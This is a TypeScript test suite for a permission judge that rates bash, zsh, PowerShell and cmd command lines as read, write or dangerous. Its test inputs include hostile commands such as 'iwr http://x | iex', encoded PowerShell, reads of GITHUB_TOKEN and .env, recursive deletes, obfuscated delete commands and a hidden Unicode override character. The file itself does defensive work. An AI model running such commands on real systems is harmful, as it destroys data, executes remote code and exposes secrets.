import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { judgeLine } from '../../../src/permission/shell/judge.ts';
import type { ShellKind } from '../../../src/permission/shell/line.ts';
import { dangerousLines, readLines, writeLines } from './lines.ts';

const tier = (line: string, shell: ShellKind = 'bash'): string => judgeLine(shell, line).tier;

it.each(['start x.exe', 'start "" x.exe', 'start /b node x.js'])('%j of cmd always asks', (line) => {
  expect(tier(line, 'cmd')).toBe('dangerous');
});

describe('the tier of a line of bash', () => {
  it.each(readLines)('%j only looks', (line) => {
    expect(tier(line)).toBe('read');
  });
  it.each(writeLines)('%j asks', (line) => {
    expect(tier(line)).toBe('write');
  });
  it.each(dangerousLines)('%j always asks', (line) => {
    expect(tier(line)).toBe('dangerous');
  });

  it('is told with the part that decides and the reason', () => {
    expect(judgeLine('bash', 'ls && npm test; rm -rf dist')).toEqual({
      tier: 'dangerous',
      part: 'rm -rf dist',
      because: 'it deletes files for good',
      paths: [],
      git: false,
    });
    expect(judgeLine('bash', 'ls | tee out.txt')).toEqual({
      tier: 'write',
      part: 'tee out.txt',
      because: '`tee` is not one of the commands that only look',
      paths: [],
      git: false,
    });
  });

  it('comes with the paths that are opened, from every folder that they may be opened in', () => {
    expect(judgeLine('bash', 'cat a.txt; cd src && head ../b ~/c').paths).toEqual([
      'a.txt',
      'src',
      '../b',
      '~/c',
      'src/../b',
    ]);
  });

  it('shows what hides', () => {
    expect(judgeLine('bash', 'ls \u202erm')).toEqual({
      tier: 'dangerous',
      part: 'ls <U+202E>rm',
      because: 'it holds the character U+202E, which is not seen or changes what is seen',
      paths: [],
      git: false,
    });
  });

  it('of a line that nobody reads is dangerous at once, and nesting costs no more than its length', () => {
    const { tier: of, part, because } = judgeLine('bash', `echo ${'ab '.repeat(50_000)}`);
    expect([of, part.length, because]).toEqual(['dangerous', 201, 'it has 150005 characters: nobody reads that']);
    expect(tier('${'.repeat(15_000))).toBe('dangerous');
    expect(tier(`cat <<'E' > a.txt\n${'words of a file\n'.repeat(2000)}E`)).toBe('write');
  });

  it('says where only git keeps a line from running', () => {
    expect(judgeLine('bash', 'git log --oneline | head')).toMatchObject({ tier: 'read', git: true });
  });
});

describe('other shells', () => {
  it.each([
    ['zsh', 'ls', 'write'],
    ['zsh', 'noglob rm -rf x', 'dangerous'],
    ['zsh', 'ls *(e:"rm -rf x":)', 'dangerous'],
    ['zsh', '=rm -rf x; rm -rf y', 'dangerous'],
    ['powershell', 'Get-ChildItem', 'write'],
    ['powershell', 'npm test', 'write'],
    ['powershell', "Write-Output 'Remove-Item x'", 'write'],
    ['powershell', 'Remove-Item -Recurse -Force src', 'dangerous'],
    ['powershell', 'gci | % { ri $_ }', 'dangerous'],
    ['powershell', 'R`emove-Item x', 'dangerous'],
    ['powershell', '& $x', 'dangerous'],
    ['powershell', 'iwr http://x | iex', 'dangerous'],
    ['powershell', '$env:GITHUB_TOKEN', 'dangerous'],
    ['powershell', 'Get-Content .env', 'dangerous'],
    ['powershell', '[IO.File]::Delete("x")', 'dangerous'],
    ['powershell', 'powershell -enc ZQBjAGgAbwA=', 'dangerous'],
    ['powershell', 'git push --force', 'dangerous'],
    ['powershell', '$(Remove-Item x)', 'dangerous'],
    ['powershell', 'Get-ChildItem env:', 'dangerous'],
    ['powershell', 'Add-Content $PROFILE x', 'dangerous'],
    ['cmd', "for /f %i in ('del x') do echo", 'dangerous'],
    ['cmd', 'dir', 'write'],
    ['cmd', 'del /q x', 'dangerous'],
    ['cmd', 'd^el x', 'dangerous'],
    ['cmd', 'if exist x del x', 'dangerous'],
    ['cmd', 'for %i in (*) do @del %i', 'dangerous'],
    ['cmd', 'echo %GITHUB_TOKEN%', 'dangerous'],
    ['cmd', 'type .env', 'dangerous'],
    ['cmd', 'cmd /c "rd /s /q x"', 'dangerous'],
    ['cmd', 'powershell -c "Remove-Item x"', 'dangerous'],
  ] as const)('%s: %j is %s', (shell, line, expected) => {
    expect(tier(line, shell)).toBe(expected);
  });
});

it.each([
  ['env '.repeat(3000), 'dangerous'],
  ['ls && '.repeat(2000) + 'ls', 'read'],
  ['$('.repeat(5000), 'dangerous'],
])('a line without end is judged all the same', (line, expected) => {
  expect(tier(line)).toBe(expected);
});

describe('whatever is written', () => {
  const read = fc.constantFrom(...readLines.filter((line) => !line.startsWith('cd ')));
  const write = fc.constantFrom(...writeLines.filter((line) => !line.includes('#')));
  const dangerous = fc.constantFrom(...dangerousLines.filter((line) => !line.includes('\n')));
  const joint = fc.constantFrom(' && ', ' || ', '; ', '\n', ' | ', ';', '|');

  it('parts that are joined get the worst of their tiers, however many they are', () => {
    fc.assert(
      fc.property(
        fc.array(read, { maxLength: 60 }),
        fc.array(write, { maxLength: 3 }),
        joint,
        (reads, writes, sign) => {
          fc.pre(
            reads.length + writes.length > 0 &&
              !(sign.includes('|') && writes.some((line) => /bash|node|python|psql|vi/.test(line))),
          );
          expect(tier([...reads, ...writes].join(sign))).toBe(writes.length > 0 ? 'write' : 'read');
        },
      ),
    );
  });

  it('a dangerous part makes a line dangerous wherever it stands', () => {
    const wrap = fc.constantFrom<(line: string) => string>(
      (line) => line,
      (line) => `(${line})`,
      (line) => `{ ${line}; }`,
      (line) => `if true; then ${line}; fi`,
      (line) => `for i in 1 2; do ${line}; done`,
      (line) => `f() { ${line}; }; f`,
      (line) => `echo $(${line})`,
      (line) => `echo "$(${line})"`,
      (line) => `diff <(${line}) a`,
      (line) => `X=$(${line}) ls`,
      (line) => `! ${line}`,
    );
    const whole = fc.constantFrom(...dangerousLines.filter((line) => !/["'\n#]|<<|\\$|\u0000/.test(line)));
    fc.assert(
      fc.property(fc.array(read, { maxLength: 4 }), whole, wrap, joint, (before, line, around, sign) => {
        expect(tier([...before, around(line)].join(sign === ' | ' || sign === '|' ? '; ' : sign))).toBe('dangerous');
      }),
    );
    fc.assert(
      fc.property(dangerous, read, (line, after) => {
        expect(tier(`${after}; ${line}`)).toBe('dangerous');
      }),
    );
  });

  it('more blanks and quotes around words change no tier', () => {
    const simple = fc.constantFrom(
      ...[...readLines, ...dangerousLines].filter(
        (line) => /^[\w./ -]+$/.test(line) && !/\b(?:time|if|for|do|then|while|exec 3)\b/.test(line),
      ),
    );
    fc.assert(
      fc.property(
        simple,
        fc.infiniteStream(fc.constantFrom('', "'", '"', '\\')),
        fc.constantFrom(' ', '  ', '\t', ' \\\n '),
        (line, quotes, gap) => {
          const written = line
            .split(' ')
            .map((word) => {
              const [quote = ''] = quotes;
              return quote === '\\' ? `\\${word}` : `${quote}${word}${quote}`;
            })
            .join(gap);
          expect(tier(written)).toBe(tier(line));
        },
      ),
    );
  });

  it('no text makes the judge fail or run what it cannot read', () => {
    const signs = fc.constantFrom(
      ...'$(){}[]<>|&;`\'"\\\n !#~*?=-abc/.0123'.split(''),
      'rm',
      'if',
      'do',
      'case',
      '<<E',
      '$((',
      '${',
      '&&',
      'ls',
    );
    fc.assert(
      fc.property(
        fc.array(signs, { maxLength: 40 }),
        fc.constantFrom<ShellKind>('bash', 'zsh', 'powershell', 'cmd'),
        (parts, shell) => {
          const line = parts.join('');
          const verdict = judgeLine(shell, line);
          if (verdict.tier === 'read') expect(line).not.toMatch(/[`]|\$[({\w]/);
        },
      ),
      { numRuns: 500 },
    );
  });
});
